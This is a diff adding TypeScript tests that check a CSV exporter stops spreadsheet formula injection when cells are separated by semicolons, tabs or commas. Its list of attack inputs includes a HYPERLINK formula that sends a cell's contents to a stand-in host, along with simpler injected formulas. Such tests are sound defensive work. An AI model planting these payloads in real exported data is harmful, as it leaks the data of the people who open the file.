@@ -22,6 +22,43 @@ test('Text that a spreadsheet would run stays text.', () => {
   expect(text([['2026-01-01', 'Жер', '']])).toBe('"2026-01-01","Жер",""\r\n');
 });
 
+/** As a program reads it whose region separates cells by something else: quotes open only where a cell begins (as Python's `csv` has it). */
+function cellsBy(separator: string, table: string): string[] {
+  const cells = [''];
+  let isQuoted = false;
+  for (let at = 0; at < table.length; at++) {
+    const [cell = '', sign = ''] = [cells.at(-1), table[at]];
+    if (isQuoted) {
+      if (sign !== '"') cells[cells.length - 1] = cell + sign;
+      else if (table[at + 1] === '"') cells[cells.length - 1] = cell + (table[++at] ?? '');
+      else isQuoted = false;
+    } else if (sign === separator || sign === '\n' || sign === '\r') cells.push('');
+    else if (sign === '"' && cell === '') isQuoted = true;
+    else cells[cells.length - 1] = cell + sign;
+  }
+  return cells;
+}
+
+test('Where a spreadsheet separates cells by semicolons or tabs, no piece of a text becomes a formula.', () => {
+  const attacks = [
+    'x;=1+1',
+    'x";=HYPERLINK("http://e/?"&A1)',
+    'x\t@SUM(A1)',
+    'x\n=1',
+    'x\r\n+1',
+    'x;"=1',
+    'x; ""-1',
+    'x;;=1',
+  ];
+  for (const separator of [';', '\t', ','])
+    for (const attack of attacks) {
+      const cells = cellsBy(separator, text([['name', attack, attack]]));
+      expect(cells.filter((cell) => /^[\s"]*[=+\-@]/u.test(cell))).toEqual([]);
+    }
+  expect(cellsBy(';', '"a","b;=1"\r\n')).toContain('=1"');
+  expect(text([['Айыл; талаа', 'a-b, c']])).toBe('"Айыл; талаа","a-b, c"\r\n');
+});
+
 test('Quotes, commas and line breaks stay in their cell.', () => {
   expect(text([['a"b', 'c,d', 'e\nf']])).toBe('"a""b","c,d","e\nf"\r\n');
 });
